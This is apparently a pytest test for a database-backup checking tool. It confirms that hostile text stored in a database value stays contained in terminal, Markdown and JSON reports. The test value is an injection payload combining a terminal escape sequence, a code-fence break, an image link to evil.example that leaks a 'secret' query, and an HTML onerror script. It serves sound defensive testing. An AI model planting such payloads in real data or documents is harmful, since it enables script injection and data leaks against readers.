"""Class 9: text from the database cannot escape its place in the reports. A value with a backtick
fence, a heading, an image link and HTML stays inside the Markdown code block; an ANSI escape or a
carriage return reaches the terminal written out, not obeyed; JSON keeps the value as data."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from tests.conftest import PLAIN_NAME, Dumps, Scratch, write_bytes
from tests.helpers import output, run

# In COPY text format: \n is a newline, \033 an escape character (octal), \r a carriage return.
HOSTILE = rb"x\033[2J\r\n````\n# Owned\n![x](https://evil.example/?q=secret)\n<img src=x onerror=alert(1)>"
CHECK = """\
schema: lift_simulator
checks:
  no_odd_names:
    sql: SELECT system_key, display_name FROM lift_system WHERE display_name LIKE 'x%'
"""


def test_database_text_stays_inside_its_code_block(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path
) -> None:
    dump = write_bytes(
        tmp_path / PLAIN_NAME,
        dumps.plain.read_bytes().replace(b"\tLift system 1\t", b"\t" + HOSTILE + b"\t", 1),
    )
    (pytester.path / "checks").mkdir()
    (pytester.path / "checks" / "odd.yml").write_text(CHECK)
    result = run(
        pytester, f"--liftbackup={dump}", "--liftbackup-markdown=summary.md", "--liftbackup-report=v.json"
    )
    text = output(result)
    result.assert_outcomes(passed=1, failed=1)
    assert "\x1b" not in text and "\r" not in text
    assert r"display_name=x\x1b[2J\r\n````\n# Owned" in text

    markdown = (pytester.path / "summary.md").read_text()
    fences = re.findall(r"^(`{3,})text$", markdown, re.MULTILINE)
    assert fences and all(len(f) > 4 for f in fences)  # longer than the value's own ```` run
    outside = re.sub(r"^(`{5,})text\n.*?^\1$", "", markdown, flags=re.MULTILINE | re.DOTALL)
    assert "evil.example" not in outside and "<img" not in outside and "# Owned" not in outside
    assert "\x1b" not in markdown

    record = json.loads((pytester.path / "v.json").read_text())
    sample = record["dumps"][0]["checks"][0]["sample"][0]
    assert sample["display_name"].startswith("x\x1b[2J\r\n````\n# Owned\n![x](https://evil.example/")
